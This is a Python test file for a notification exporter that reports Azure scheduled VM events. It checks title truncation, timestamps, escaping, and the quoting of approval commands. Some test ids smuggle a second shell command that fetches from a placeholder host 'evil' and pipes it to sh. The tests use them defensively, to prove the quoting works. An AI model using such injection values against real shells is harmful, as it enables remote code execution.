import html
import shlex
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from exporter.config import Templates
from exporter.model.events import Affected
from exporter.model.lifecycle import Change, Transition, TransitionRecord
from exporter.model.messages import Message, TextFormat, WatchChange, WatchMessage
from exporter.model.views import ApprovalView
from exporter.model.wording import command_line
from tests.builders import NOT_BEFORE, REBOOT_ID, message
from tests.clocks import NOW
from tests.outputs.notifications.sending import rendered


def body(sent: Message, **templates: Any) -> str:
    return rendered(sent, templates=Templates(**templates)).body


def title(sent: Message) -> str:
    return rendered(sent).title


@pytest.mark.parametrize(("later", "at"), [(-1, " at 22:00 UTC"), (0, ", 4 Mar 22:00 UTC")])
def test_an_event_of_another_day_has_its_date(later: int, at: str) -> None:
    """A time of day alone would be taken for that of today, if it is not within 20 hours."""
    now = NOW + timedelta(hours=20, seconds=later)
    assert rendered(message(Transition.COMPLETED), now).title == f"[SUCCESS] Reboot completed: vm_0{at}"


@pytest.mark.parametrize(
    ("instance", "minutes", "rest"),
    [
        ("vm_4567890", 15, "vm_4567890 at 22:15 UTC (15 min)"),
        ("vm_45678901", 15, "vm_45678901 in 15 min"),
        ("vm_45678901234567890123", 15, "vm_456789...4567890123 in 15 min"),
        ("vm_45678901", 60, "vm_45678901 at 23:00 UTC"),
        ("vm_45678901234567890", 60, "vm_45678...34567890 at 23:00 UTC"),
        ("vm_0", 119 / 60, "vm_0 at 22:01 UTC (119 s)"),
    ],
)
def test_what_a_title_has_room_for(instance: str, minutes: float, rest: str) -> None:
    """It has 60 characters: the time of day is omitted if less than an hour is left, or else the time left.

    Then a long name is shortened in its middle.
    """
    due = NOW + timedelta(minutes=minutes)
    assert title(message(instance=instance, not_before=due)) == f"[WARNING] Reboot scheduled: {rest}"


def test_what_changed_is_in_the_title() -> None:
    """If there is no room for both, a start that is far ahead gives way, of a near one the longer words."""
    for left, moved, instance, rest in (
        (timedelta(days=2), 23, "vm_0", "23 s later: vm_0, 6 Mar 22:00 UTC"),
        (timedelta(days=2), 23, "v" * 18, f"postponed 23 s: {'v' * 18}"),
        (timedelta(days=2), 23, "v" * 50, "postponed 23 s: vvvvvvv..."),
        (timedelta(minutes=5), -600, "vm_0", "moved up 10 min: vm_0 in 5 min"),
        (timedelta(minutes=5), -600, "vm_456789", "10 min earlier: vm_456789 in 5 min"),
        (timedelta(minutes=15), 600, "vm_45678", "10 min later: vm_45678 in 15 min"),
    ):
        due = NOW + left
        change = Change("not_before", due - timedelta(seconds=moved), due)
        found = title(message(Transition.UPDATED, instance=instance, changes=(change,), not_before=due))
        assert found.startswith(f"[WARNING] Reboot updated, {rest}"), found


def test_a_hook_that_fails_during_the_event() -> None:
    """The title says whether anything can still be prepared."""
    begun = (TransitionRecord(Transition.STARTED, NOW),)
    found = title(message(Transition.HOOK_FAILED, status="Started", transitions=begun))
    assert found == "[WARNING] Hook failed during Reboot: vm_0 at 22:00 UTC"


COMMAND = f"- To start it now: azure-scheduled-events-exporter approve {REBOOT_ID}"


@pytest.mark.parametrize(
    ("state", "fields", "shown"),
    [
        (None, {}, []),
        (None, {"source": "User"}, [COMMAND]),
        ("approved", {"source": "User"}, []),
        ("failed", {}, ["- Approval: on hold: no rule", COMMAND]),
        ("hold", {"status": "Started"}, []),
        ("hold", {"target": Affected.OTHER}, []),
        ("hold", {"ended": NOW, "outcome": Transition.CANCELLED}, []),
    ],
)
def test_how_to_approve(state: str | None, fields: dict[str, Any], shown: list[str]) -> None:
    """An event of this VM that waits for it, and any that a user of Azure asked for, can be approved."""
    sent = message(approval=ApprovalView(state, "all", state and "no rule"), **fields)
    assert [line for line in body(sent).splitlines() if "Approval" in line or "To start" in line] == shown


@pytest.mark.parametrize(
    ("word", "windows", "found"),
    [
        (REBOOT_ID, True, REBOOT_ID),
        ("E1;curl${IFS}evil|sh", False, "'E1;curl${IFS}evil|sh'"),
        ("E1;curl${IFS}evil|sh", True, '"E1;curl?{IFS}evil|sh"'),
        ("a\"b'c`d%e\u201df\\", True, '"a?b\'c?d?e?f?"'),
        ("", True, '""'),
    ],
)
def test_a_word_of_a_command_is_a_word(word: str, windows: bool, found: str) -> None:
    """What is pasted into a shell runs the program alone, whatever an id or a name contains."""
    assert command_line("approve", word, windows=windows) == f"approve {found}"


@pytest.mark.parametrize("text_format", ["markdown", "text", "html"])
def test_the_command_of_a_message_is_quoted(text_format: TextFormat) -> None:
    """An id with a backtick, which Markdown must not have, does not end its quotation either."""
    sent = message(id="E1`;curl evil;`|sh", source="User")
    found = html.unescape(body(sent, format=text_format))
    (line,) = [line for line in found.splitlines() if "To start it now: " in line]
    words = shlex.split(line.partition("now: ")[2])
    assert words[:2] == ["azure-scheduled-events-exporter", "approve"]
    assert len(words) == 3


@pytest.mark.parametrize(("count", "more"), [(10, ""), (11, " and 1 more")])
def test_many_vms_are_counted(count: int, more: str) -> None:
    """After ten names the rest is a number."""
    sent = message(resources=tuple(f"vm_{number}" for number in range(count + 1)))
    names = ", ".join(f"vm_{number}" for number in range(1, 11))
    assert f"- Other VMs: {names}{more}" in body(sent).splitlines()


@pytest.mark.parametrize(
    ("text_format", "start"), [("markdown", "{}\n\nown"), ("text", "{}\n\nown"), ("html", "<p>{}</p>\nown")]
)
def test_a_late_message_begins_with_when_it_happened(text_format: TextFormat, start: str) -> None:
    """With any template, a late message has a note in its first line."""
    own = Templates(body="own", format=text_format)
    found = rendered(message(), NOW + timedelta(minutes=12), templates=own, failed=True)
    words = "This happened at 2026-03-04 22:00:00 UTC, 12 min ago; it could not be delivered before."
    assert found.body == start.format(words)
    assert found.title == "[WARNING] Reboot scheduled: vm_0 at 22:15 UTC (3 min)"
    assert "could not be delivered" not in rendered(message(), NOW + timedelta(minutes=13)).body


@pytest.mark.parametrize(
    ("seconds", "note"), [(5.0, ""), (5.1, "<p>This happened at 2026-03-04 22:00:00 UTC, 5 s ago.</p>\n")]
)
def test_a_late_html_document_stays_a_document(seconds: float, note: str) -> None:
    """Where a template writes a whole HTML document, the line goes into its body."""
    own = Templates(body="<html><BODY class=x>own</BODY></html>", format="html")
    found = rendered(message(), NOW + timedelta(seconds=seconds), templates=own)
    assert found.body == f"<html><BODY class=x>{note}own</BODY></html>"


def test_times_in_another_zone() -> None:
    """All times of a message are in one zone, each with the abbreviation of its day."""
    berlin, due = "Europe/Berlin", datetime(2026, 3, 29, 12, tzinfo=UTC)
    found = rendered(
        message(Transition.UPDATED, not_before=due, changes=(Change("not_before", NOT_BEFORE, due),)),
        NOW + timedelta(minutes=1),
        timezone=berlin,
    )
    assert found.title == "[WARNING] Reboot updated, postponed 25 days: vm_0"
    assert "UTC" not in found.body
    assert found.body.startswith("This happened at 2026-03-04 23:00:00 CET, 1 min ago.")
    assert "start 2026-03-04 23:15:00 CET -> 2026-03-29 14:00:00 CEST" in found.body
    own = Templates(body="{{ event.not_before }} {{ at.hour }} {{ event.not_before | utc }}", format="text")
    found = rendered(message(), templates=own, timezone=berlin)
    assert found.body == "2026-03-04 23:15:00 CET 23 2026-03-04 22:15:00 UTC"


BLIND = WatchMessage(
    "oncall",
    "watch#1",
    1,
    WatchChange.BLIND,
    NOW,
    "vm_0",
    NOW - timedelta(minutes=5),
    "GET http://169.254.169.254: timed out",
)


@pytest.mark.parametrize("text_format", ["markdown", "text", "html"])
def test_what_imds_said_is_data(text_format: TextFormat) -> None:
    """The text of an error is not markup; while the VM has no name, the message names the host."""
    odd = replace(BLIND, instance=None, incident="watch/db-1", error="<b>@all `x`")
    found = rendered(odd, templates=Templates(format=text_format), failed=True)
    assert found.title == "[CRITICAL] Blind: events of db-1 unknown for 5 min"
    assert "Host name: db-1" in found.body
    assert "@" not in found.body
    assert text_format != "html" or "<b>" not in found.body


def test_templates_of_the_user_are_for_events() -> None:
    """They could name what a message about the watch does not have."""
    mine = Templates(title="{{ event.id }}", body="{{ event.id }}")
    assert rendered(BLIND, templates=mine) == rendered(BLIND)
